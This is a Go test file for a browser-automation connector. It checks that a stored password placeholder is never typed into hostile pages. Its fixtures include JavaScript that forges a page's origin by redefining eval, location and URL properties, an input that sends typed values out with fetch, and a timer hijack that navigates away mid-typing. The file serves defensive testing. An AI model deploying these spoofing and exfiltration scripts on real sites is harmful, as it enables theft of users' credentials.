package launcher_test

import (
	"strings"
	"testing"

	"connector-browser/launcher/launchtest"
	"connector-browser/relay"
	"connector-browser/secrets"
)

// forger redefines whatever a page can of what tells where it is, and sends off
// every argument of every function that is run in it.
const forger = `<title>bank</title><input id="field" aria-label="Mine" oninput="send(this.value)"><script>
	const send = (what) => fetch("/sent?" + new URLSearchParams({ what: String(what) }));
	const real = eval;
	window.eval = (code) => { const made = real(code); return typeof made !== "function" ? made : (...given) => {
		send(JSON.stringify(given)); return made(...given); }; };
	const frame = () => document.querySelector("iframe");
	Object.defineProperty(Node.prototype, "ownerDocument", { get: () => ({ documentElement: frame() }) });
	Object.defineProperty(Node.prototype, "baseURI", { get: () => frame().src });
	for (const where of [Document.prototype, document]) Object.defineProperty(where, "URL", { get: () => frame().src });
	try { Object.defineProperty(window, "location", { value: frame() }) } catch {}
	history.replaceState(null, "", "/?BANK@#BANK");
</script>`

// elsewhere is the address of the same server under another name.
func elsewhere(url string) string { return strings.Replace(url, "127.0.0.1", "localhost", 1) }

// CB-149: a page that asks for {{NAME}} where it does not belong gets nothing.
func TestHostilePageGetsNoSecret(t *testing.T) {
	t.Parallel()
	pages := map[string]string{}
	evil := newBank(t, pages)
	b := newBank(t, map[string]string{
		"/":        form,
		"/hosting": form + `<iframe src="` + evil.URL + `/plain"></iframe>`,
		"/leaving": `<input aria-label="Mine" id="field">`,
	})
	thief := `<input id="field" aria-label="Mine" oninput="fetch('/sent?' + new URLSearchParams({ what: this.value }))">`
	pages["/plain"] = thief
	pages["/forged"] = strings.ReplaceAll(forger, "BANK", b.URL) + `<iframe src="` + b.URL + `/"></iframe>`
	other, far := elsewhere(b.URL), elsewhere(evil.URL)

	conf := launchtest.New(t).Auth("", false)
	conf.Policy(`[network]` + "\n" + `allow = ["` + strings.Join([]string{host(b.Server), host(evil.Server), other[len("http://"):], far[len("http://"):]}, `", "`) + `"]` + "\n")
	keepSecret(t, conf, secrets.Named{Name: "word", Hosts: []string{host(b.Server), "example.com"}, Value: password})
	l := start(t, conf)
	refused := func(t *testing.T, target string) {
		t.Helper()
		answer := l.Tool("browser_type", launchtest.Arguments{"target": target, "text": "{{word}}"})
		if answer.Code() != relay.ForbiddenHost {
			t.Errorf("typing is answered %s", answer.Line)
		}
		if got := evil.got(); strings.Contains(got, "battery") || strings.Contains(answer.Line, "battery") {
			t.Errorf("the page got %q", got)
		}
	}
	visit := func(url string) { l.Does("browser_navigate", launchtest.Arguments{"url": url}) }

	l.Step("another port", func(t *testing.T) {
		visit(evil.URL + "/plain")
		refused(t, l.ref("Mine"))
	})
	l.Step("another name of the same server", func(t *testing.T) {
		visit(other + "/")
		refused(t, l.ref("Password"))
	})
	l.Step("a page without a host", func(t *testing.T) {
		visit(page(thief))
		refused(t, l.ref("Mine"))
	})
	l.Step("a page that embeds the bank and forges its place", func(t *testing.T) {
		visit(evil.URL + "/forged")
		refused(t, l.ref("Mine"))
		refused(t, "#field")
	})
	l.Step("the same of another site, in a process of its own", func(t *testing.T) {
		visit(far + "/forged")
		refused(t, l.ref("Mine"))
		refused(t, "#field")
	})
	l.Step("the bank embedded there gets its own", func(t *testing.T) {
		l.Does("browser_type", launchtest.Arguments{"target": l.ref("Password"), "text": "{{word}}", "submit": true})
		if got := b.got(); !strings.Contains(got, "battery") || strings.Contains(evil.got(), "battery") {
			t.Errorf("the bank was sent %q", got)
		}
	})
	l.Step("a frame of another origin in the bank's page", func(t *testing.T) {
		visit(b.URL + "/hosting")
		refused(t, l.ref("Mine"))
	})
	l.Step("a page that leaves between the question and the typing", func(t *testing.T) {
		visit(b.URL + "/leaving")
		// It leaves at the upstream's own pause behind the question; the first
		// pause is that of this very call.
		l.Evaluate(`() => { const real = setTimeout; let pauses = 0;
			window.setTimeout = (...given) => { if (++pauses === 2) location = "`+evil.URL+`/plain"; return real(...given); }; return 1 }`, nil)
		answer := l.Tool("browser_type", launchtest.Arguments{"target": "#field", "text": "{{word}}"})
		if got := evil.got(); strings.Contains(got, "battery") {
			t.Errorf("the page got %q; typing was answered %s", got, answer.Line)
		}
		if url := l.Does("browser_snapshot", nil); !strings.Contains(url, evil.URL+"/plain") {
			t.Errorf("the page did not leave: %s", url)
		}
		if answer.Code() != relay.ForbiddenHost && !answer.IsError() {
			t.Logf("the page was still there when the secret was typed: %s", answer.Line)
		}
	})
	l.leaves()
}
